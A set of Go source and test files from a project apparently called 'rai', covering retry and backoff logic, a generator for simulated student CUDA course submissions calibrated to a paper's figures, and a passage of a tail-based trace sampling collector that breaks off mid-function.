		m.Retries.Inc()
	}
}

func (m *Metrics) deadline() {
	if m != nil {
		m.Deadlines.Inc()
	}
}

// Reconnect counts one successful reconnection; exported because the
// reconnecting wrappers live outside this package.
func (m *Metrics) Reconnect() {
	if m != nil {
		m.Reconnects.Inc()
	}
}
