package netx

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"rai/internal/telemetry"
)

// fastPolicy keeps test retries sub-millisecond and deterministic.
func fastPolicy() Policy {
	return Policy{
		MaxAttempts: 5,
		BaseDelay:   time.Microsecond,
		MaxDelay:    10 * time.Microsecond,
		Rand:        func() float64 { return 0.5 },
	}
}

func TestDoSucceedsAfterTransientFailures(t *testing.T) {
	calls := 0
	err := Do(context.Background(), fastPolicy(), func(context.Context) error {
		calls++
		if calls < 3 {
			return errors.New("connection reset")
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if calls != 3 {
		t.Errorf("calls = %d, want 3", calls)
	}
}

func TestDoExhaustsAttempts(t *testing.T) {
	p := fastPolicy()
	p.MaxAttempts = 3
	calls := 0
	boom := errors.New("boom")
	err := Do(context.Background(), p, func(context.Context) error { calls++; return boom })
	if !errors.Is(err, boom) {
		t.Fatalf("err = %v", err)
	}
	if calls != 3 {
		t.Errorf("calls = %d, want 3", calls)
	}
}

func TestDoPermanentFailsFast(t *testing.T) {
	calls := 0
	err := Do(context.Background(), fastPolicy(), func(context.Context) error {
		calls++
		return Permanent(errors.New("bad request"))
	})
	if err == nil || calls != 1 {
		t.Fatalf("err = %v, calls = %d (want fail-fast)", err, calls)
	}
	if !IsPermanent(err) {
		t.Error("permanence lost through Do")
	}
}

func TestDoStatusClassification(t *testing.T) {
	for _, tc := range []struct {
		code      int
		wantCalls int
	}{
		{http.StatusBadRequest, 1},          // 4xx: fail fast
		{http.StatusNotFound, 1},            // 4xx: fail fast
		{http.StatusTooManyRequests, 3},     // 429: retry
		{http.StatusInternalServerError, 3}, // 5xx: retry
	} {
		p := fastPolicy()
		p.MaxAttempts = 3
		calls := 0
		err := Do(context.Background(), p, func(context.Context) error {
			calls++
			return &StatusError{Op: "test", Code: tc.code}
		})
		if err == nil {
			t.Fatalf("code %d: nil error", tc.code)
		}
		if calls != tc.wantCalls {
			t.Errorf("code %d: calls = %d, want %d", tc.code, calls, tc.wantCalls)
		}
	}
}

func TestDoCancellationAbortsPromptly(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	p := Policy{MaxAttempts: 100, BaseDelay: time.Hour, MaxDelay: time.Hour}
	started := make(chan struct{})
	done := make(chan error, 1)
	go func() {
		done <- Do(ctx, p, func(context.Context) error {
			close(started)
			return errors.New("flaky")
		})
	}()
	<-started
	cancel() // while Do sleeps its (hour-long) backoff
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("err = %v, want context.Canceled", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Do did not abort on cancellation")
	}
}

func TestDoOverallDeadline(t *testing.T) {
	reg := telemetry.NewRegistry()
	p := fastPolicy()
	p.MaxAttempts = 1000
	p.Overall = 20 * time.Millisecond
	p.Metrics = NewMetrics(reg, "test")
	last := errors.New("still down")
	err := Do(context.Background(), p, func(context.Context) error { return last })
	if !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("err = %v, want DeadlineExceeded", err)
	}
	if !errors.Is(err, last) {
		t.Errorf("last attempt error not preserved: %v", err)
	}
	if v, ok := reg.Value(MetricDeadlines, telemetry.L("component", "test")); !ok || v != 1 {
		t.Errorf("deadline counter = %v, %v", v, ok)
	}
}

func TestDoPerAttemptTimeoutIsRetryable(t *testing.T) {
	p := fastPolicy()
	p.MaxAttempts = 3
	p.PerAttempt = 5 * time.Millisecond
	calls := 0
	err := Do(context.Background(), p, func(ctx context.Context) error {
		calls++
		if calls < 2 {
			<-ctx.Done() // simulate a stuck connection until the attempt deadline
			return ctx.Err()
		}
		return nil
	})
	if err != nil || calls != 2 {
		t.Fatalf("err = %v, calls = %d (per-attempt timeout should retry)", err, calls)
	}
}

func TestDelayJitterBounds(t *testing.T) {
	p := Policy{BaseDelay: 100 * time.Millisecond, MaxDelay: time.Second}
	for attempt := 1; attempt <= 10; attempt++ {
		for i := 0; i < 50; i++ {
			d := p.Delay(attempt)
			if d < 0 || d >= time.Second {
				t.Fatalf("attempt %d: delay %v out of [0, 1s)", attempt, d)
			}
		}
	}
	// Deterministic rand pins the exponential envelope: cap doubles each
	// attempt until MaxDelay.
	p.Rand = func() float64 { return 0.999 }
	if d1, d3 := p.Delay(1), p.Delay(3); d3 <= d1 {
		t.Errorf("backoff not growing: attempt1 %v vs attempt3 %v", d1, d3)
	}
	if d := p.Delay(30); d >= time.Second {
		t.Errorf("delay %v not capped by MaxDelay", d)
	}
}

func TestDoValReturnsValueAndCountsRetries(t *testing.T) {
	reg := telemetry.NewRegistry()
	p := fastPolicy()
	p.Metrics = NewMetrics(reg, "test")
	calls := 0
	v, err := DoVal(context.Background(), p, func(context.Context) (int, error) {
		calls++
		if calls < 3 {
			return 0, errors.New("eof")
		}
		return 42, nil
	})
	if err != nil || v != 42 {
		t.Fatalf("v = %d, err = %v", v, err)
	}
	if n, ok := reg.Value(MetricRetries, telemetry.L("component", "test")); !ok || n != 2 {
		t.Errorf("retries counter = %v, %v, want 2", n, ok)
	}
}

func TestNilMetricsSafe(t *testing.T) {
	var m *Metrics
	m.retry()
	m.deadline()
	m.Reconnect()
}

func TestFlakyTransportRetriesThrough(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "ok")
	}))
	defer srv.Close()
	ft := &FlakyTransport{Fail: 2}
	client := &http.Client{Transport: ft}
	p := fastPolicy()
	body, err := DoVal(context.Background(), p, func(ctx context.Context) (string, error) {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, srv.URL, nil)
		if err != nil {
			return "", err
		}
		resp, err := client.Do(req)
		if err != nil {
			return "", err
		}
		defer resp.Body.Close()
		b, err := io.ReadAll(resp.Body)
		return string(b), err
	})
	if err != nil || body != "ok" {
		t.Fatalf("body = %q, err = %v", body, err)
	}
	if ft.Attempts() != 3 {
		t.Errorf("attempts = %d, want 3 (2 dropped + 1 served)", ft.Attempts())
	}
}

func TestFlakyListenerDropsThenServes(t *testing.T) {
	inner, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	fl := &FlakyListener{Listener: inner, Drop: 2}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "alive")
	})}
	go srv.Serve(fl)
	defer srv.Close()

	// Transport without keep-alive reuse so each attempt dials fresh.
	client := &http.Client{Transport: &http.Transport{DisableKeepAlives: true}, Timeout: 5 * time.Second}
	p := fastPolicy()
	body, err := DoVal(context.Background(), p, func(ctx context.Context) (string, error) {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+inner.Addr().String(), nil)
		if err != nil {
			return "", err
		}
		resp, err := client.Do(req)
		if err != nil {
			return "", err
		}
		defer resp.Body.Close()
		b, err := io.ReadAll(resp.Body)
		return string(b), err
	})
	if err != nil || body != "alive" {
		t.Fatalf("body = %q, err = %v (accepted %d)", body, err, fl.Accepted())
	}
	if fl.Accepted() < 3 {
		t.Errorf("accepted = %d, want >= 3", fl.Accepted())
	}
}

func TestStatusErrorMessage(t *testing.T) {
	e := &StatusError{Op: "objstore put", Code: 507, Msg: "quota exceeded"}
	for _, want := range []string{"objstore put", "507", "quota exceeded"} {
		if !strings.Contains(e.Error(), want) {
			t.Errorf("message %q missing %q", e.Error(), want)
		}
	}
	if (&StatusError{Op: "x", Code: 404}).Temporary() {
		t.Error("404 classified temporary")
	}
	if !(&StatusError{Op: "x", Code: 503}).Temporary() {
		t.Error("503 classified permanent")
	}
}
