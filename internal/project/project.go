// Package project generates student project source trees for the course
// workload: a CMake project whose "CUDA" sources carry the pragmas the
// simulated toolchain understands (see internal/shell). The workload
// generator uses it to materialize per-team submissions; tests use it as
// a fixture factory.
package project

import (
	"fmt"
	"path"

	"rai/internal/cnn"
	"rai/internal/vfs"
)

// Spec describes the project variant to generate.
type Spec struct {
	// Impl is the kernel optimization level the team has reached.
	Impl cnn.Impl
	// Tuning multiplies the kernel's runtime (team-specific quality;
	// 1.0 = reference implementation of that level).
	Tuning float64
	// Bug, when non-empty, injects a defect: "accuracy", "crash",
	// "hang", or "compile" (a syntax error caught by make).
	Bug string
	// Team is stamped into a source comment (useful when inspecting
	// uploaded archives).
	Team string
	// WithUsage and WithReport include the USAGE and report.pdf files the
	// final submission requires (paper §V "Student Final Submission").
	WithUsage  bool
	WithReport bool
}

// Files renders the project tree as path -> content (paths relative to
// the project root).
func Files(s Spec) map[string]string {
	if s.Tuning <= 0 {
		s.Tuning = 1
	}
	bugPragma := ""
	switch s.Bug {
	case "":
	case "compile":
		bugPragma = "// rai::compile-error\n"
	default:
		bugPragma = fmt.Sprintf("// rai::bug=%s\n", s.Bug)
	}
	forward := fmt.Sprintf(`// ECE408 project kernel — team %s
// rai::impl=%s
// rai::tuning=%g
%s#ifndef NEW_FORWARD_CUH
#define NEW_FORWARD_CUH

// The convolution forward kernel. In the real course this file holds the
// CUDA implementation; the simulated toolchain reads the pragmas above.
template <typename T>
void forward(T *y, const T *x, const T *k);

#endif
`, s.Team, s.Impl.String(), s.Tuning, bugPragma)

	files := map[string]string{
		"CMakeLists.txt": `cmake_minimum_required(VERSION 3.2)
project(ece408project)
add_executable(ece408 main.cu)
target_include_directories(ece408 PRIVATE ece408_src)
`,
		"main.cu": `// Course-provided driver: loads the model and dataset, runs the
// student forward kernel, reports correctness and the internal timer.
#include "new-forward.cuh"
int main(int argc, char **argv) { return run(argc, argv); }
`,
		"ece408_src/new-forward.cuh": forward,
		"rai-build.yml": `rai:
  version: 0.1
  image: webgpu/rai:root
  commands:
    build:
      - echo "Building project"
      - cmake /src
      - make
      - ./ece408 /data/test10.hdf5 /data/model.hdf5
`,
	}
	if s.WithUsage {
		files["USAGE"] = "Run ./ece408 <data> <model> [count]; profile with nvprof --export-profile timeline.nvprof ./ece408 ...\n"
	}
	if s.WithReport {
		files["report.pdf"] = "%PDF-1.4\n% project report for team " + s.Team + "\n"
	}
	return files
}

// WriteTo materializes the project under dir in fs.
func WriteTo(fs *vfs.FS, dir string, s Spec) error {
	for rel, content := range Files(s) {
		if err := fs.WriteFile(path.Join(dir, rel), []byte(content)); err != nil {
			return err
		}
	}
	return nil
}
