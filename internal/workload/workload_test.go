package workload

import (
	"testing"
	"time"

	"rai/internal/cnn"
	"rai/internal/shell"
)

func genFall2016(t *testing.T) *Course {
	t.Helper()
	return Generate(Fall2016())
}

func TestDeterministicFromSeed(t *testing.T) {
	a, b := Generate(Fall2016()), Generate(Fall2016())
	if len(a.Submissions) != len(b.Submissions) {
		t.Fatalf("counts differ: %d vs %d", len(a.Submissions), len(b.Submissions))
	}
	for i := range a.Submissions {
		if !a.Submissions[i].Time.Equal(b.Submissions[i].Time) || a.Submissions[i].Team != b.Submissions[i].Team {
			t.Fatalf("submission %d differs", i)
		}
	}
	cfg := Fall2016()
	cfg.Seed = 999
	c := Generate(cfg)
	if len(c.Submissions) == len(a.Submissions) && c.Submissions[0].Time.Equal(a.Submissions[0].Time) {
		t.Error("different seed produced an identical course")
	}
}

func TestTeamCountAndSizes(t *testing.T) {
	c := genFall2016(t)
	if len(c.Teams) != 58 {
		t.Fatalf("teams = %d", len(c.Teams))
	}
	members := 0
	for _, tm := range c.Teams {
		if tm.Members < 2 || tm.Members > 4 {
			t.Fatalf("team size %d outside 2-4 (paper §I)", tm.Members)
		}
		members += tm.Members
	}
	// 58 teams of 2-4 should land near the 176 enrolled students.
	if members < 120 || members > 230 {
		t.Errorf("total members = %d, implausible for 176 students", members)
	}
}

func TestTotalSubmissionVolume(t *testing.T) {
	c := genFall2016(t)
	total := len(c.Submissions)
	// Paper: "over 40,000 project submissions". Poisson noise allows a
	// few percent slack around the 41k target.
	if total < 38_000 || total > 45_000 {
		t.Fatalf("total submissions = %d, want ≈41k", total)
	}
	last2 := len(c.LastTwoWeeks())
	// Paper Figure 4: 30,782 submissions in the last two weeks (~75%).
	share := float64(last2) / float64(total)
	if share < 0.68 || share < 0.5 || share > 0.85 {
		t.Fatalf("last-two-weeks share = %.2f (%d), want ≈0.75", share, last2)
	}
}

func TestSubmissionsSortedAndInWindow(t *testing.T) {
	c := genFall2016(t)
	for i := 1; i < len(c.Submissions); i++ {
		if c.Submissions[i].Time.Before(c.Submissions[i-1].Time) {
			t.Fatalf("submissions not sorted at %d", i)
		}
	}
	for _, s := range c.Submissions {
		if s.Time.Before(c.Cfg.Start) || s.Time.After(c.Cfg.Deadline) {
			t.Fatalf("submission at %v outside course window", s.Time)
		}
	}
}

func TestCircadianShape(t *testing.T) {
	c := genFall2016(t)
	var byHour [24]int
	for _, s := range c.Submissions {
		byHour[s.Time.Hour()]++
	}
	// Pre-dawn trough far below the afternoon peak.
	trough := byHour[3] + byHour[4] + byHour[5]
	peak := byHour[14] + byHour[15] + byHour[16]
	if peak < 5*trough {
		t.Errorf("circadian contrast too weak: peak=%d trough=%d", peak, trough)
	}
}

func TestDeadlineRamp(t *testing.T) {
	c := genFall2016(t)
	mid := c.Cfg.Start.Add(c.Cfg.Deadline.Sub(c.Cfg.Start) / 2)
	first, second := 0, 0
	for _, s := range c.Submissions {
		if s.Time.Before(mid) {
			first++
		} else {
			second++
		}
	}
	if second < 3*first {
		t.Errorf("no deadline burst: first half %d, second half %d", first, second)
	}
}

func TestEveryTeamMakesAFinalSubmission(t *testing.T) {
	c := genFall2016(t)
	finals := map[string]int{}
	for _, s := range c.Submissions {
		if s.Kind == "submit" {
			finals[s.Team]++
			if !s.Spec.WithUsage || !s.Spec.WithReport {
				t.Fatalf("final submission for %s lacks USAGE/report.pdf", s.Team)
			}
		}
	}
	if len(finals) != 58 {
		t.Fatalf("teams with finals = %d", len(finals))
	}
	for team, n := range finals {
		if n < 1 || n > 3 {
			t.Errorf("team %s made %d final submissions", team, n)
		}
	}
}

func TestFinalRuntimeDistributionMatchesFigure2(t *testing.T) {
	c := genFall2016(t)
	cost := shell.DefaultCostModel()
	var runtimes []float64
	for _, tm := range c.Teams {
		rt := cost.Inference(tm.FinalImpl, 10_000, tm.FinalTuning).Seconds()
		runtimes = append(runtimes, rt)
	}
	// Sort ascending; inspect the top 30 (Figure 2 plots the top 30).
	for i := 1; i < len(runtimes); i++ {
		for j := i; j > 0 && runtimes[j] < runtimes[j-1]; j-- {
			runtimes[j], runtimes[j-1] = runtimes[j-1], runtimes[j]
		}
	}
	top30 := runtimes[:30]
	sub1s := 0
	bin0405 := 0
	for _, rt := range top30 {
		if rt < 1.0 {
			sub1s++
		}
		if rt >= 0.4 && rt < 0.5 {
			bin0405++
		}
	}
	// "Most teams fell within the 1 second runtime."
	if sub1s < 15 {
		t.Errorf("top-30 under 1s = %d, want most", sub1s)
	}
	// Figure 2's example: ~5 teams in the [0.4,0.5) bin.
	if bin0405 < 2 || bin0405 > 12 {
		t.Errorf("teams in [0.4,0.5) = %d, want a clear mode (~5)", bin0405)
	}
	// "The slowest submission took 2 minutes to complete."
	slowest := runtimes[len(runtimes)-1]
	if slowest < 30 || slowest > 400 {
		t.Errorf("slowest final runtime = %.1fs, want minutes-scale tail", slowest)
	}
	// Fastest cannot beat the best kernel's physical floor (~0.4 s).
	if top30[0] < 0.38 {
		t.Errorf("fastest = %.3fs, below the model's floor", top30[0])
	}
}

func TestImplProgressionMonotonic(t *testing.T) {
	c := genFall2016(t)
	team := c.Teams[40] // a strong team
	prev := cnn.ImplNaiveSerial
	for p := 0.0; p <= 1.0; p += 0.05 {
		cur := implAt(team, p)
		if cur < prev {
			t.Fatalf("impl regressed from %v to %v at progress %.2f", prev, cur, p)
		}
		prev = cur
	}
	if implAt(team, 1.0) > team.FinalImpl {
		t.Error("progression exceeded final impl")
	}
}

func TestBugInjectionRates(t *testing.T) {
	c := genFall2016(t)
	compile, crash := 0, 0
	runs := 0
	for _, s := range c.Submissions {
		if s.Kind != "run" {
			continue
		}
		runs++
		switch s.Spec.Bug {
		case "compile":
			compile++
		case "crash":
			crash++
		}
	}
	compileRate := float64(compile) / float64(runs)
	crashRate := float64(crash) / float64(runs)
	if compileRate < 0.04 || compileRate > 0.12 {
		t.Errorf("compile error rate = %.3f", compileRate)
	}
	if crashRate < 0.01 || crashRate > 0.06 {
		t.Errorf("crash rate = %.3f", crashRate)
	}
}

func TestTeamByName(t *testing.T) {
	c := genFall2016(t)
	if _, ok := c.TeamByName("team01"); !ok {
		t.Error("team01 missing")
	}
	if _, ok := c.TeamByName("nope"); ok {
		t.Error("ghost team found")
	}
}

func TestSmallCourseGenerates(t *testing.T) {
	cfg := Config{
		Seed: 7, Teams: 4, Students: 12,
		Start:             time.Date(2016, 11, 11, 0, 0, 0, 0, time.UTC),
		Deadline:          time.Date(2016, 12, 16, 0, 0, 0, 0, time.UTC),
		TargetSubmissions: 400,
	}
	c := Generate(cfg)
	if len(c.Teams) != 4 {
		t.Fatalf("teams = %d", len(c.Teams))
	}
	if len(c.Submissions) < 200 || len(c.Submissions) > 700 {
		t.Fatalf("submissions = %d, want ≈400", len(c.Submissions))
	}
}
