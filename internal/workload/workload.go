// Package workload models student behaviour over the five-week course
// project, calibrated against the paper's §VII observations: 176
// students in 58 teams, over 40,000 submissions in total with 30,782 in
// the final two weeks, submission bursts that "followed their circadian
// rhythm" (Figure 4), and a final-runtime distribution whose top-30
// histogram has its mode in the 0.4–0.5 s bin with a ~2-minute tail
// (Figure 2).
//
// Everything is generated deterministically from a seed: team skills,
// kernel-optimization progress, per-hour Poisson submission counts, and
// injected failures (compile errors, crashes).
package workload

import (
	"fmt"
	"math"
	"sort"
	"time"

	"rai/internal/cnn"
	"rai/internal/project"
)

// Config parameterizes a course generation.
type Config struct {
	Seed     uint64
	Teams    int       // 58 in fall 2016
	Students int       // 176 in fall 2016
	Start    time.Time // project start
	Deadline time.Time // final submission deadline
	// TargetSubmissions is the expected total count (paper: >40,000).
	TargetSubmissions int
	// DeadlineRamp shapes the growth of activity toward the deadline;
	// ~3.1 puts ≈75% of submissions in the final two weeks of a five
	// week project, matching 30,782/40,000.
	DeadlineRamp float64
	// CompileErrorRate and CrashRate inject realistic failures.
	CompileErrorRate float64
	CrashRate        float64
}

// Fall2016 returns the paper's course parameters.
func Fall2016() Config {
	deadline := time.Date(2016, 12, 16, 23, 59, 0, 0, time.UTC)
	return Config{
		Seed:              408,
		Teams:             58,
		Students:          176,
		Start:             deadline.Add(-35 * 24 * time.Hour),
		Deadline:          deadline,
		TargetSubmissions: 41_000,
		DeadlineRamp:      3.1,
		CompileErrorRate:  0.08,
		CrashRate:         0.03,
	}
}

// Team is one project team.
type Team struct {
	Name    string
	Members int
	// Skill in [0,1) drives optimization progress and final runtime.
	Skill float64
	// FinalImpl and FinalTuning determine the final-submission runtime.
	FinalImpl   cnn.Impl
	FinalTuning float64
	// Activity multiplies the team's submission rate.
	Activity float64
}

// Submission is one generated client action.
type Submission struct {
	Time time.Time
	Team string
	// Kind is core.KindRun or core.KindSubmit ("run"/"submit" strings to
	// avoid an import cycle with core).
	Kind string
	// Spec is the project tree the team submits at this point.
	Spec project.Spec
}

// Course is a generated term.
type Course struct {
	Cfg         Config
	Teams       []Team
	Submissions []Submission // sorted by time
}

// prng is the same xorshift generator the cnn package uses, duplicated
// here to keep packages decoupled.
type prng struct{ s uint64 }

func newPRNG(seed uint64) *prng {
	if seed == 0 {
		seed = 0x9E3779B97F4A7C15
	}
	return &prng{s: seed}
}

func (p *prng) next() uint64 {
	p.s ^= p.s >> 12
	p.s ^= p.s << 25
	p.s ^= p.s >> 27
	return p.s * 0x2545F4914F6CDD1D
}

// float returns a uniform float64 in [0,1).
func (p *prng) float() float64 { return float64(p.next()>>11) / float64(1<<53) }

// poisson draws from Poisson(lambda) via Knuth's method (λ stays small
// per team-hour).
func (p *prng) poisson(lambda float64) int {
	if lambda <= 0 {
		return 0
	}
	l := math.Exp(-lambda)
	k, prod := 0, 1.0
	for {
		prod *= p.float()
		if prod <= l {
			return k
		}
		k++
		if k > 10000 {
			return k // safety net; unreachable for calibrated λ
		}
	}
}

// circadian is the relative submission intensity by hour of day,
// normalized to mean 1: quiet pre-dawn, afternoon peak, late-night
// second wind — the rhythm visible in Figure 4.
var circadian = [24]float64{
	0.45, 0.30, 0.20, 0.12, 0.10, 0.12, // 00-05
	0.25, 0.45, 0.70, 0.95, 1.15, 1.30, // 06-11
	1.35, 1.45, 1.55, 1.65, 1.60, 1.50, // 12-17
	1.45, 1.40, 1.50, 1.55, 1.30, 0.86, // 18-23
}

// finalProfile maps a team's skill to its final kernel and tuning,
// calibrated so the modeled runtimes reproduce Figure 2's shape: the
// best teams land in 0.4–0.5 s, most of the top 30 under a second, and
// the slowest teams take minutes.
func finalProfile(skill float64, rng *prng) (cnn.Impl, float64) {
	switch {
	case skill >= 0.82: // ~10 teams reach the best kernel shape
		return cnn.ImplParallel, 1.0 + 0.55*rng.float()
	case skill >= 0.55: // im2col + GEMM: 0.6–1.1 s
		return cnn.ImplIm2col, 1.0 + 0.8*rng.float()
	case skill >= 0.30: // shared-memory tiling: 1.2–2.6 s
		return cnn.ImplTiled, 1.0 + 1.2*rng.float()
	case skill >= 0.10: // first working kernel: 3–12 s
		return cnn.ImplLoopReorder, 1.0 + 3.0*rng.float()
	default: // barely-working kernels: tens of seconds to ~2 min
		return cnn.ImplLoopReorder, 10 + 30*rng.float()
	}
}

// implAt returns the team's kernel level at progress p in [0,1]: teams
// advance through the levels at skill-dependent speed.
func implAt(team Team, p float64) cnn.Impl {
	// Progress needed to reach each level shrinks with skill.
	speed := 0.45 + 0.8*team.Skill
	reached := int(p * speed * 6)
	final := int(team.FinalImpl)
	if reached > final {
		reached = final
	}
	if reached < 0 {
		reached = 0
	}
	return cnn.Impl(reached)
}

// Generate builds the course deterministically from cfg.
func Generate(cfg Config) *Course {
	if cfg.Teams <= 0 {
		cfg.Teams = 58
	}
	if cfg.TargetSubmissions <= 0 {
		cfg.TargetSubmissions = 41_000
	}
	if cfg.DeadlineRamp == 0 {
		cfg.DeadlineRamp = 3.1
	}
	rng := newPRNG(cfg.Seed)
	course := &Course{Cfg: cfg}

	// Teams: skills spread uniformly with deterministic jitter; sizes
	// chosen so members sum ≈ Students (teams of 2–4, §I).
	var totalActivity float64
	for i := 0; i < cfg.Teams; i++ {
		skill := (float64(i) + rng.float()) / float64(cfg.Teams)
		impl, tuning := finalProfile(skill, rng)
		team := Team{
			Name:        fmt.Sprintf("team%02d", i+1),
			Members:     2 + int(rng.next()%3),
			Skill:       skill,
			FinalImpl:   impl,
			FinalTuning: tuning,
			Activity:    0.5 + 1.5*rng.float(),
		}
		course.Teams = append(course.Teams, team)
		totalActivity += team.Activity
	}

	// Hourly Poisson arrivals shaped by ramp × circadian × activity.
	hours := int(cfg.Deadline.Sub(cfg.Start) / time.Hour)
	rampAt := func(h int) float64 {
		frac := float64(h) / float64(hours)
		return math.Exp(cfg.DeadlineRamp * frac)
	}
	// Normalize so the expected total matches TargetSubmissions.
	var weightSum float64
	for h := 0; h < hours; h++ {
		hourOfDay := cfg.Start.Add(time.Duration(h) * time.Hour).Hour()
		weightSum += rampAt(h) * circadian[hourOfDay]
	}
	// E[total] = Σ_teams Σ_hours base·activity·ramp·circ = base·totalActivity·weightSum
	base := float64(cfg.TargetSubmissions) / (totalActivity * weightSum)

	for ti := range course.Teams {
		team := &course.Teams[ti]
		trng := newPRNG(cfg.Seed*1_000_003 + uint64(ti)*7919 + 17)
		for h := 0; h < hours; h++ {
			t0 := cfg.Start.Add(time.Duration(h) * time.Hour)
			lambda := base * team.Activity * rampAt(h) * circadian[t0.Hour()]
			n := trng.poisson(lambda)
			for k := 0; k < n; k++ {
				at := t0.Add(time.Duration(trng.float() * float64(time.Hour)))
				progress := float64(h) / float64(hours)
				impl := implAt(*team, progress)
				// Tuning anneals toward the final value as the team
				// iterates; earlier submissions run slower.
				anneal := 1 + (1-progress)*1.5*trng.float()
				spec := project.Spec{
					Impl:   impl,
					Tuning: team.FinalTuning * anneal,
					Team:   team.Name,
				}
				switch {
				case trng.float() < cfg.CompileErrorRate:
					spec.Bug = "compile"
				case trng.float() < cfg.CrashRate:
					spec.Bug = "crash"
				}
				course.Submissions = append(course.Submissions, Submission{
					Time: at, Team: team.Name, Kind: "run", Spec: spec,
				})
			}
		}
		// Final submissions in the last three days: 1–3 attempts, the
		// last one with the team's final profile and required files.
		finals := 1 + int(trng.next()%3)
		for k := 0; k < finals; k++ {
			back := time.Duration(trng.float()*60) * time.Hour
			at := cfg.Deadline.Add(-back / time.Duration(k+1))
			course.Submissions = append(course.Submissions, Submission{
				Time: at, Team: team.Name, Kind: "submit",
				Spec: project.Spec{
					Impl:       team.FinalImpl,
					Tuning:     team.FinalTuning * (1 + 0.05*trng.float()*float64(finals-1-k)),
					Team:       team.Name,
					WithUsage:  true,
					WithReport: true,
				},
			})
		}
	}
	sort.SliceStable(course.Submissions, func(i, j int) bool {
		return course.Submissions[i].Time.Before(course.Submissions[j].Time)
	})
	return course
}

// LastTwoWeeks filters submissions to the final 14 days (Figure 4's
// window).
func (c *Course) LastTwoWeeks() []Submission {
	cutoff := c.Cfg.Deadline.Add(-14 * 24 * time.Hour)
	var out []Submission
	for _, s := range c.Submissions {
		if !s.Time.Before(cutoff) {
			out = append(out, s)
		}
	}
	return out
}

// TeamByName looks a team up.
func (c *Course) TeamByName(name string) (Team, bool) {
	for _, t := range c.Teams {
		if t.Name == name {
			return t, true
		}
	}
	return Team{}, false
}
