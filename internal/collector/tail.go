package collector

// Tail-based retention: the second half of adaptive trace sampling.
// Head sampling (telemetry.Sampler) cuts export volume at the source
// but is blind — it decides before knowing whether a trace will turn
// out interesting. The tail buffer holds each arriving trace for a
// short linger window after its last span, then decides with the whole
// trace in hand: error traces and slow traces (a latency-biased
// reservoir keyed off the observed root-duration distribution) are
// always kept, the boring bulk is downsampled by a deterministic hash.
// Every decision is counted, so operators can verify the persisted set
// is exactly what the policy promised — never silently truncated.

import (
	"sync"
	"time"

	"rai/internal/clock"
	"rai/internal/telemetry"
)

// TailConfig tunes the collector's tail-retention stage. The zero
// value disables it (every span persists immediately, PR 3 behavior).
type TailConfig struct {
	// Linger is how long a trace is buffered after its last span
	// arrives before the retention decision is made. Zero disables
	// tail buffering entirely.
	Linger time.Duration
	// KeepRate is the retention probability for "boring" traces —
	// neither errored nor slow. Deterministic per trace ID.
	KeepRate float64
	// SlowQuantile sets the latency bias: traces whose root duration
	// sits at or above this quantile of the observed distribution are
	// always kept (default 0.99).
	SlowQuantile float64
	// MinSamples is how many root durations must be observed before
	// the slow detector trusts its quantile estimate (default 32; a
	// cold collector keeps by KeepRate only).
	MinSamples int
}

func (c TailConfig) withDefaults() TailConfig {
	if c.SlowQuantile <= 0 || c.SlowQuantile >= 1 {
		c.SlowQuantile = 0.99
	}
	if c.MinSamples <= 0 {
		c.MinSamples = 32
	}
	if c.KeepRate < 0 {
		c.KeepRate = 0
	}
	if c.KeepRate > 1 {
		c.KeepRate = 1
	}
	return c
}

// spanRec pairs a buffered span with the service that shipped it (the
// batch attribute persistSpan needs).
type spanRec struct {
	service string
	data    telemetry.SpanData
}

// pendingTrace is one trace accumulating in the tail buffer.
type pendingTrace struct {
	spans    []spanRec
	lastSeen time.Time
	hasError bool
	rootDur  float64 // seconds; <0 until the root span arrives
}

// tailBuffer implements the linger-and-decide stage.
type tailBuffer struct {
	cfg  TailConfig
	clk  clock.Clock
	keep *telemetry.Sampler // deterministic boring-trace reservoir

	mu     sync.Mutex
	traces map[string]*pendingTrace
	// hist observes every decided trace's root duration; its upper
	// quantile is the moving slow threshold.
	hist *telemetry.HDRHistogram

	kept          map[string]*telemetry.Counter // by reason
	droppedTraces *telemetry.Counter
	droppedSpans  *telemetry.Counter
	pending       *telemetry.Gauge
}

// Tail-retention decision reasons (the kept-counter label values).
const (
	tailReasonError   = "error"
	tailReasonSlow    = "slow"
	tailReasonSampled = "sampled"
)

func newTailBuffer(cfg TailConfig, clk clock.Clock, reg *telemetry.Registry) *tailBuffer {
	cfg = cfg.withDefaults()
	t := &tailBuffer{
		cfg:    cfg,
		clk:    clk,
		keep:   telemetry.NewSampler(cfg.KeepRate),
		traces: map[string]*pendingTrace{},
		hist:   telemetry.NewHDRHistogram(),
		kept:   map[string]*telemetry.Counter{},
	}
	for _, reason := range []string{tailReasonError, tailReasonSlow, tailReasonSampled} {
		t.kept[reason] = reg.Counter("rai_collector_tail_kept_total",
			"traces kept by tail retention", telemetry.L("reason", reason))
	}
	t.droppedTraces = reg.Counter("rai_collector_tail_dropped_total",
		"boring traces dropped by tail retention")
	t.droppedSpans = reg.Counter("rai_collector_tail_spans_dropped_total",
		"spans discarded with tail-dropped traces")
	t.pending = reg.Gauge("rai_collector_tail_pending", "traces lingering in the tail buffer")
	return t
}

// add buffers one span under its trace, restarting the trace's linger
// window.
func (t *tailBuffer) add(service string, s telemetry.SpanData) {
	t.mu.Lock()
	defer t.mu.Unlock()
	pt, ok := t.traces[s.TraceID]
	if !ok {
		pt = &pendingTrace{rootDur: -1}
		t.traces[s.TraceID] = pt
		t.pending.Add(1)
	}
	pt.spans = append(pt.spans, spanRec{service: service, data: s})
	pt.lastSeen = t.clk.Now()
	if s.ParentID == "" {
		pt.rootDur = s.Duration().Seconds()
	}
	if s.Attrs["error"] != "" || s.Attrs["status"] == "failed" || s.Attrs["status"] == "rejected" {
